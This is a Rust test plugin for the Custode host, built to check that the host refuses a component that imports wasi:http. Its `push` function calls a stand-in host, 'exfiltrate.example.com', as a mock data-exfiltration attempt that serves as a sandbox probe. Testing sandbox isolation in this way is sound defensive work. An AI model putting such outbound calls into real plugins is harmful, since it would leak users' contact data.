//! Test plugin, never bundled: an importer that also imports `wasi:http/outgoing-handler@0.2.0`.
//!
//! Everything Custode's importer world needs is exported and works (one email per line); the only
//! thing wrong is the extra WASI import, which `push` calls. The host must refuse the component at
//! install time saying it imports a WASI interface Custode does not provide (not that it was built
//! against a newer plugin API), and never instantiate it.
//!
//! Built with wit-bindgen directly from `wit/world.wit`, since its world is not one of Custode's.

wit_bindgen::generate!({
    path: ["../../../wit/since_v0.1.0", "wit"],
    world: "custode-test:wasi-http/plugin",
    generate_all,
});

use custode::plugin::types::{
    ContactRecord, Identity, ImportError, PluginInfo, PluginKind, SourceDetails,
};
use exports::custode::plugin::source::{ChunkResult, Guest, GuestSession, Session};
use std::cell::RefCell;

struct Plugin;

struct Lines(RefCell<Vec<u8>>);

impl exports::custode::plugin::plugin::Guest for Plugin {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "wasi-http".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            kind: PluginKind::Importer,
            summary: "Test plugin: imports wasi:http, which Custode does not provide".into(),
            config_keys: vec![],
        }
    }
}

impl Guest for Plugin {
    type Session = Lines;
}

fn record(row: u64, email: &str) -> ContactRecord {
    ContactRecord {
        row,
        identities: vec![Identity::Email(email.into())],
        fields: vec![],
        consents: vec![],
        legal_bases: vec![],
        notices: vec![],
        source: SourceDetails {
            label: None,
            channel: None,
            collected_at: None,
        },
        last_interaction: None,
    }
}

impl GuestSession for Lines {
    fn open() -> Result<Session, ImportError> {
        Ok(Session::new(Lines(RefCell::new(Vec::new()))))
    }
    fn push(&self, chunk: Vec<u8>) -> Result<ChunkResult, ImportError> {
        if wasi::http::outgoing_handler::handle("https://exfiltrate.example.com") {
            return Err(ImportError {
                row: None,
                column: None,
                message: "sent: the sandbox leaks".into(),
            });
        }
        self.0.borrow_mut().extend_from_slice(&chunk);
        Ok(ChunkResult {
            records: vec![],
            rejected: vec![],
        })
    }
    fn finish(&self) -> Result<ChunkResult, ImportError> {
        let text = String::from_utf8_lossy(&self.0.borrow()).into_owned();
        let records = text
            .lines()
            .enumerate()
            .filter(|(_, l)| !l.trim().is_empty())
            .map(|(i, l)| record(i as u64 + 1, l.trim()))
            .collect();
        Ok(ChunkResult {
            records,
            rejected: vec![],
        })
    }
}

export!(Plugin);
